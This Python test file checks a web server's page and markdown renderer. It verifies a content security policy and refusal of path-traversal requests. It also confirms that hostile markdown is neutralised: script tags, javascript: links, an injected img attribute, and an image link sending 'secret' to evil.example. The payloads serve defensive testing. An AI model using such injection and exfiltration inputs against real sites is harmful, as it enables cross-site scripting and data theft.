"""The files of the page, and what foreign text may be on it."""

from __future__ import annotations

import re

import httpx
import pytest

from openclaw.server.markup import to_html
from openclaw.server.routes.page_routes import STATIC
from openclaw.server.server_client import RunningServer


def test_the_page_needs_no_token_and_holds_nothing(server: RunningServer) -> None:
    with httpx.Client(base_url=f"http://127.0.0.1:{server.port}") as client:
        page = client.get("/")
        assert page.headers["content-type"].startswith("text/html")
        assert "script-src 'self'" in page.headers["content-security-policy"]
        for name in re.findall(r'(?:src|href)="(/static/[^"]+)"', page.text):
            assert client.get(name).status_code == 200, name
        for name in ("/static/none.js", "/static/..%2fapi.py", "/static/../api.py", "/index.html"):
            assert client.get(name).status_code in (401, 404), name


def test_the_files_are_few_small_and_load_nothing_from_elsewhere() -> None:
    files = [*STATIC.iterdir()]
    assert len(files) <= 30
    assert sum(file.stat().st_size for file in files) <= 200_000
    for file in files:
        told = file.read_text(encoding="utf-8").replace("http://www.w3.org/2000/svg", "")
        assert not re.search(r"https?://|@import|url\(", told), file.name


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("**a** <b>x</b>", "<p><strong>a</strong> &lt;b&gt;x&lt;/b&gt;</p>\n"),
        ("<script>x()</script>", "&lt;script&gt;x()&lt;/script&gt;"),
        ("[l](javascript:alert(1))", "<p>[l](javascript:alert(1))</p>\n"),
        (
            "![i](https://evil.example/?q=secret)",
            '<a href="https://evil.example/?q=secret" rel="noreferrer noopener">i</a>',
        ),
        ('!["><img src=x>](https://x/)', "&quot;&gt;&lt;img src=x&gt;"),
        ("|a|\n|-:|\n|1|", '<td align="right">1</td>'),
        ("a\u202eb", "<p>a<U+202E>b</p>".replace("<U", "&lt;U").replace("E>", "E&gt;")),
    ],
)
def test_markdown_of_others_brings_no_html_and_loads_no_image(text: str, html: str) -> None:
    made = to_html(text)
    assert html in made
    assert "<img" not in made and "<script" not in made and "style=" not in made
